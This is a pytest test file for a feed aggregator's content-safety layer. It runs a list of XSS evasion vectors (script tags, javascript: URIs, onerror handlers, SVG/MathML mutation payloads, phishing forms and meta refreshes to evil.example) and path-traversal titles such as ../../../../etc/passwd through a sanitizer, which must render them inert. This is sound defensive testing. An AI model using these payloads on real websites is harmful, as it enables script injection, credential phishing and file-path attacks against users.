"""Content safety: whatever a feed says reaches documents and the merged feeds only as safe
HTML, plain-text titles and authors, absolute URLs, and file names inside the documents folder.

The HTML checks run on the parsed tree (`invariants.check_safe_html`), the way a browser would
see the output, so that no spelling of an attack can slip past a text search.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import feedparser
import pytest
from conftest import FeedServer
from feedworld import rsshub_feed, rsshub_item
from invariants import STRICT_XML, check_outputs, check_safe_html, front_matter
from lxml import etree

from aggregator.config.settings import Config
from aggregator.models import Source
from aggregator.poll.pipeline import Pipeline
from aggregator.sources.parse import parse_feed
from aggregator.sources.sanitize import IFRAME_HOSTS, plain_text, sanitize_html
from aggregator.store.database import Store

BASE = "https://example.org/news/2024/story.html"
ATOM = "{http://www.w3.org/2005/Atom}"

# From the OWASP XSS filter evasion cheat sheet, the mutation-XSS literature and html5sec.org:
# each must come out inert.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x.png" onerror="alert(1)" ONLOAD=alert(2)>',
    "<img src=x onerror=alert`1`>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
    '<a href="javascript:alert(1)">link</a>',
    '<a href=" &#14;  javascript:alert(1)">link</a>',
    '<a href="JAVASCRIPT:alert(1)">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="javascript:alert(1) 1x, data:image/png;base64,AAAA 2x">',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:x)}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    "</div></div></div><style>body{display:none}</style>",
    '<iframe src="https://evil.example/phish"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="http://www.youtube.com/embed/x"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>details</details>",
    '<a href="https://ok.example/" target="_blank" ping="https://evil.example/">ok</a>',
    '<video src="v.mp4" poster="javascript:alert(1)" onerror="alert(1)"></video>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<p>unclosed <b>bold <i>italic",
    '<frameset><frame src="https://evil.example/"></frameset>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<a href="java\0script:alert(1)">nul</a>',
]


@pytest.mark.parametrize("payload", VECTORS)
def test_attack_vectors_come_out_inert(payload: str) -> None:
    cleaned = sanitize_html(payload, BASE)
    check_safe_html(cleaned)
    check_safe_html(sanitize_html(payload, None))


def test_the_example_documents_markup_is_kept_byte_for_byte() -> None:
    """The markup of shared/examples/seed-document.md survives exactly, attribute order and
    the bare `alt` included."""
    fragment = (
        "<p>白宫宣布。</p>\n"
        '<p><img loading="lazy" class="aligncenter size-arc-image-770" '
        'src="https://chinese.aljazeera.net/wp-content/uploads/2022/01/image-1-74.jpg'
        '?w=770&resize=770%2C433" alt data-recalc-dims="1" referrerpolicy="no-referrer"></p>\n'
        "<h3>小标题</h3>\n<p>纽兰表示。</p>"
    )
    assert sanitize_html(fragment, BASE) == fragment


def test_every_image_gets_no_referrer() -> None:
    cleaned = sanitize_html('<img src="https://a.example/i.png" referrerpolicy="unsafe-url">')
    assert cleaned == '<img src="https://a.example/i.png" referrerpolicy="no-referrer">'


@pytest.mark.parametrize("host", sorted(IFRAME_HOSTS))
def test_iframes_from_the_allow_list_are_kept(host: str) -> None:
    fragment = f'<iframe src="https://{host}/embed/abc" width="560" height="315"></iframe>'
    assert sanitize_html(fragment, BASE) == fragment


@pytest.mark.parametrize(
    "fragment",
    [
        '<iframe src="https://evil.example/embed/abc"></iframe>',
        '<iframe src="http://www.youtube.com/embed/abc"></iframe>',  # not https
        '<iframe src="https://www.youtube.com.evil.example/embed/abc"></iframe>',
        '<iframe src="//www.youtube.com/embed/abc"></iframe>',
        "<iframe>fallback <b>text</b></iframe>",
    ],
)
def test_other_iframes_are_removed_whole(fragment: str) -> None:
    assert sanitize_html(f"<p>before</p>{fragment}<p>after</p>", BASE) == (
        "<p>before</p><p>after</p>"
    )


def test_relative_links_and_images_become_absolute_against_the_entry() -> None:
    content = (
        '<a href="other.html">a</a> <a href="/root">b</a> <a href="#part">c</a> '
        '<a href="//cdn.example/x">d</a> <img src="img/a.png" srcset="img/a.png 1x, /b.png 2x"> '
        '<video src="v.mp4" poster="p.jpg"><source src="s.webm"></video>'
    )
    item = (
        "<item><title>t</title><link>https://example.org/news/2024/story.html</link>"
        f"<guid>r-1</guid><description><![CDATA[{content}]]></description></item>"
    )
    (entry,) = parse_feed(rsshub_feed([item]), Source("s", "https://feeds.example/"), BASE).entries
    check_safe_html(entry.content)
    for url in [
        "https://example.org/news/2024/other.html",
        "https://example.org/root",
        "https://example.org/news/2024/story.html#part",
        "https://cdn.example/x",
        'src="https://example.org/news/2024/img/a.png"',
        'srcset="https://example.org/news/2024/img/a.png 1x, https://example.org/b.png 2x"',
        'poster="https://example.org/news/2024/p.jpg"',
        'src="https://example.org/news/2024/s.webm"',
    ]:
        assert url in entry.content
    assert entry.image == "https://example.org/news/2024/img/a.png"


def test_without_an_entry_link_urls_are_resolved_against_the_feed() -> None:
    item = (
        '<item><title>t</title><guid isPermaLink="false">r-2</guid>'
        '<description><![CDATA[<a href="rel.html">r</a>]]></description></item>'
    )
    feed = rsshub_feed([item])  # its channel link: https://chinese.aljazeera.net/news
    (entry,) = parse_feed(feed, Source("s", "https://feeds.example/"), BASE).entries
    assert 'href="https://chinese.aljazeera.net/rel.html"' in entry.content


def test_relative_urls_without_any_base_are_dropped() -> None:
    cleaned = sanitize_html('<a href="rel.html">r</a><img src="i.png" srcset="i.png 1x">', None)
    check_safe_html(cleaned)
    assert "rel.html" not in cleaned and "i.png" not in cleaned


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        ("<b>Bold</b> news", "Bold news"),
        ("<script>alert(1)</script>News", "News"),
        ("A &amp; B &lt;3 and 1 < 2 > 0", "A & B <3 and 1 < 2 > 0"),
        ("&lt;img src=x onerror=alert(1)&gt;Mallory", "Mallory"),  # escaped markup goes too
        # Escaped twice or more: a reader may decode it as often, so it goes all the same.
        ("&amp;lt;script&amp;gt;x&amp;lt;/script&amp;gt;Twice", "Twice"),
        ("AT&amp;amp;T &amp;amp;amp;lt;b&amp;amp;amp;gt;", "AT&T"),
        ("Line\nbreak\tand\x00control\x1b[31m", "Line break and control [31m"),
        ('<a href="javascript:x" onclick="y">Evil</a> Author', "Evil Author"),
        ("<img src=x onerror=alert(1)>", ""),
        # What only looks like a tag is what the title says (feedparser gives it unescaped).
        ("Option<T> and Result<T, E>", "Option<T> and Result<T, E>"),
        ("Vec&lt;String&gt; in &amp;lt;Rust&amp;gt;", "Vec<String> in <Rust>"),
        ("<T onmouseover=alert(1)>hover", "hover"),  # an attribute: a tag, dropped
        ("a <x-widget>custom</x-widget> b", "a custom b"),  # a site may define it
        ("History of the <blink> tag", "History of the tag"),  # the documented price
        # An unclosed element an HTML parser reads as code took the rest of the title.
        ("Why <script async> matters", "Why matters"),
        ("Using <template> and <style> in 2026", "Using and in 2026"),
        ("<style>p{}</style>Styled", "Styled"),
        # Format characters are text: Persian's ZWNJ, emoji joiners, direction marks, the
        # soft hyphen; so are characters newer than Python's tables (U+1FAE8, Unicode 15).
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("👨\u200d👩\u200d👧 \u200fעברית\u200e x", "👨\u200d👩\u200d👧 \u200fעברית\u200e x"),
        ("soft\u00adhyphen \U0001fae8", "soft\u00adhyphen \U0001fae8"),
        ("no\u2028line\ufffebreak\ud800s", "no line break s"),
    ],
)
def test_titles_and_authors_are_plain_text(raw: str, text: str) -> None:
    assert plain_text(raw) == text


# -- the whole way: feed -> documents and merged feeds --------------------------------------

HOSTILE_TITLES = [
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\system32\\config",
    "CON",
    "aux.txt",
    "NUL",
    "..",
    ".",
    ".hidden",
    "~",
    "   ",
    "x" * 600,
    "題" * 300,
    "\u202etxt.exe",
    "emoji 🎉 title",
    "quote ' and \" and : and #",
    "<b>Bold</b> &lt;i&gt;escaped&lt;/i&gt; <script>alert(1)</script>",
]


@pytest.fixture
def pass_over(feed_server: FeedServer, make_config) -> Iterator:
    opened: list[tuple[Pipeline, Store]] = []

    def run(body: bytes) -> Config:
        feed_server.serve("/hostile", body)
        config = make_config(
            [{"name": "hostile", "url": feed_server.url("/hostile")}],
            documents="site/source/_posts",
            feed={"folder": "site/public"},
        )
        store = Store(config.paths.database)
        pipeline = Pipeline(config, store, parse_processes=0)
        opened.append((pipeline, store))
        (result,) = pipeline.update_all()
        assert result.status == "new", result
        check_outputs(config)
        return config

    yield run
    for pipeline, store in opened:
        pipeline.close()
        store.close()


def hostile_feed() -> bytes:
    items = []
    for index, title in enumerate(HOSTILE_TITLES):
        body = VECTORS[index % len(VECTORS)] + "<p>" + VECTORS[-index % len(VECTORS)] + "</p>"
        items.append(rsshub_item(index, title=title, body=body, guid=f"../../{title}/{index}"))
    items.append(
        "<item><title>Evil link</title><link>javascript:alert(1)</link>"
        "<author>&lt;img src=x onerror=alert(1)&gt;Mallory</author>"
        "<category>&lt;script&gt;alert(1)&lt;/script&gt;News</category>"
        '<enclosure url="javascript:alert(1)" type="image/png" length="1"/>'
        "<guid>evil-link</guid><description>x</description></item>"
    )
    return rsshub_feed(items)


def test_hostile_feed_gives_safe_documents_and_merged_feeds(pass_over, tmp_path: Path) -> None:
    config = pass_over(hostile_feed())
    documents = sorted(config.paths.documents.iterdir())
    assert len(documents) == len(HOSTILE_TITLES) + 1
    for path in documents:
        # Inside the folder, a plain bounded name: nothing a feed says can make a path.
        assert path.parent == config.paths.documents and path.resolve().parent == path.parent
        assert len(path.name.encode()) <= 200 and "\0" not in path.name
        assert not path.name.startswith(".") and path.name.endswith(".md")
        text = path.read_text(encoding="utf-8")
        meta = front_matter(text)
        assert plain_text(meta["title"]) == meta["title"] and "onerror" not in meta["title"]
        assert plain_text(meta["author"]) == meta["author"] and "onerror" not in meta["author"]
        check_safe_html(text.split("\n---\n", 1)[1])
    titles = {front_matter(p.read_text(encoding="utf-8"))["title"] for p in documents}
    assert "Bold escaped" in titles  # markup went, escaped markup too
    assert "../../../../etc/passwd" in titles  # shown as it is, never used as a path
    # Nothing was written anywhere else under the test folder.
    written = {p.relative_to(tmp_path).parts[0] for p in tmp_path.rglob("*") if p.is_file()}
    assert written <= {"config.yaml", "data", "site"}

    rss = (config.paths.public / config.feed.rss_name).read_bytes()
    atom = (config.paths.public / config.feed.atom_name).read_bytes()
    for item in etree.fromstring(rss, STRICT_XML).iter("item"):
        title = item.find("title")
        assert title is not None and len(title) == 0  # text only, no child elements
        assert (item.findtext("link") or "").startswith(("http://", "https://"))
    for entry in etree.fromstring(atom, STRICT_XML).iter(f"{ATOM}entry"):
        title = entry.find(f"{ATOM}title")
        assert title is not None and title.get("type") in (None, "text") and len(title) == 0
    for data in (rss, atom):
        parsed = feedparser.parse(data, sanitize_html=False, resolve_relative_uris=False)
        assert len(parsed.entries) == len(documents)
        for entry in parsed.entries:
            for content in entry.get("content") or [{"value": entry.get("summary", "")}]:
                check_safe_html(content["value"])
            assert "onerror" not in entry.get("author", "")


def test_control_characters_and_bad_references_cannot_poison_the_merged_feed(
    pass_over,
) -> None:
    """One entry with a character XML forbids used to make every later merged feed fail to
    build (lxml refuses it), and a reference to a lone surrogate lost the whole source."""
    items = [
        rsshub_item(1, title="Control\x01chars", body="<p>a\x01b\x0bc\x1fd\x7fe</p>"),
        rsshub_item(2, title="References", body="<p>x&#1;y&#xD800;z&#x110000;&#xFFFE;!</p>"),
        rsshub_item(3, title="Fine"),
    ]
    body = rsshub_feed(items).replace(b"&amp;#", b"&#")
    config = pass_over(body)
    texts = [p.read_text(encoding="utf-8") for p in config.paths.documents.iterdir()]
    assert len(texts) == 3
    assert any("<p>abcd\x7fe</p>" in text for text in texts)
    assert any("<p>xyz!</p>" in text for text in texts)


@pytest.mark.parametrize(
    "link", ["https://:blog.example.org/posts/x", "https://\u2026blog.example.org/x", "http://[::1"]
)
def test_an_entry_link_that_is_no_url_does_not_lose_the_feed(link: str) -> None:
    """Found by the fuzzer: nh3 refused such a link as the base for relative URLs and raised,
    which took the whole source (and the pass) down. Now relative URLs just go."""
    item = (
        f"<item><title>t</title><link>{link}</link><guid>b-1</guid>"
        '<description><![CDATA[<p><a href="/about">about</a><img src="i.png"></p>]]></description>'
        "</item>"
    )
    feed = rsshub_feed([item, rsshub_item(2)])
    first, second = parse_feed(feed, Source("s", "https://feeds.example/"), BASE).entries
    check_safe_html(first.content)
    assert first.link is None or first.link.startswith("https://")
    assert second.title == "新闻标题 第2条"
